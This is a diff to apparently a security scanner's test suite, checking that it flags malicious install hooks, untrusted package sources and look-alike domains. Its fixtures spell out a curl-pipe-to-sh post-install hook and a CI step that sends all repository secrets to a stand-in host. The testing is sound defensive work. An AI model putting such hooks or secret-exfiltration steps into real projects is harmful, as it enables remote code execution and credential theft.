@@ -417,8 +417,10 @@ def test_composer_scripts_run_on_install(tmp_path: Path) -> None:
         "scripts": {"post-install-cmd": ["@php artisan x", "curl -s https://i.example.invalid/i | sh"]},
     }
     snippets, _ = read(tmp_path, "composer.json", json.dumps(composer, indent=2))
+    # composer's @php is the PHP binary: `@php -r "…"` runs code like `php -r "…"` does
     assert [(s.text, s.presentation) for s in snippets] == [
-        ("curl -s https://i.example.invalid/i | sh", Presentation.HOOK)
+        ("php artisan x", Presentation.HOOK),
+        ("curl -s https://i.example.invalid/i | sh", Presentation.HOOK),
     ]
 
 
@@ -489,3 +491,32 @@ def test_a_yaml_list_of_home_paths_a_script_reads_names_the_secret_stores(tmp_pa
     )
     errors = scan_errors(tmp_path, {"assets/targets.yaml": listed, "scripts/lint.py": script})
     assert ("CREDENTIAL_EXFILTRATION", "scripts/lint.py", 6) in errors
+
+
+def test_a_cargo_template_patching_crates_from_an_unknown_git_host_installs_from_a_url(tmp_path: Path) -> None:
+    cargo = (
+        '[package]\nname = "{{name}}"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1"\n'
+        '\n[patch.crates-io]\nserde = { git = "https://code.example-mirror.invalid/serde" }\n'
+    )
+    assert ("UNTRUSTED_PACKAGE_SOURCE", "templates/Cargo.toml.tmpl", 9) in scan_errors(
+        tmp_path, {"templates/Cargo.toml.tmpl": cargo}
+    )
+    from_github = cargo.replace("code.example-mirror.invalid", "github.com")
+    assert scan_errors(tmp_path, {"templates/Cargo.toml.tmpl": from_github}) == set()
+
+
+def test_a_composite_actions_steps_are_read_like_a_workflows(tmp_path: Path) -> None:
+    action = (
+        "name: warm\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n"
+        "        ALL: ${{ toJSON(secrets) }}\n"
+        '      run: curl -s -X PUT https://cache.example-ci.invalid/v1 --data "$ALL"\n'
+    )
+    errors = scan_errors(tmp_path, {"ci/actions/warm/action.yml": action})
+    assert ("CREDENTIAL_EXFILTRATION", "ci/actions/warm/action.yml", 8) in errors
+
+
+def test_a_source_host_that_starts_with_a_code_hosts_name_is_a_look_alike(tmp_path: Path) -> None:
+    step = "brew tap team/tools https://github.com.example-cdn.invalid/team/homebrew-tools\n"
+    assert ("UNTRUSTED_PACKAGE_SOURCE", "scripts/setup.sh", 1) in scan_errors(tmp_path, {"scripts/setup.sh": step})
+    real = "brew tap team/tools https://github.com/team/homebrew-tools\n"
+    assert scan_errors(tmp_path, {"scripts/setup.sh": real}) == set()
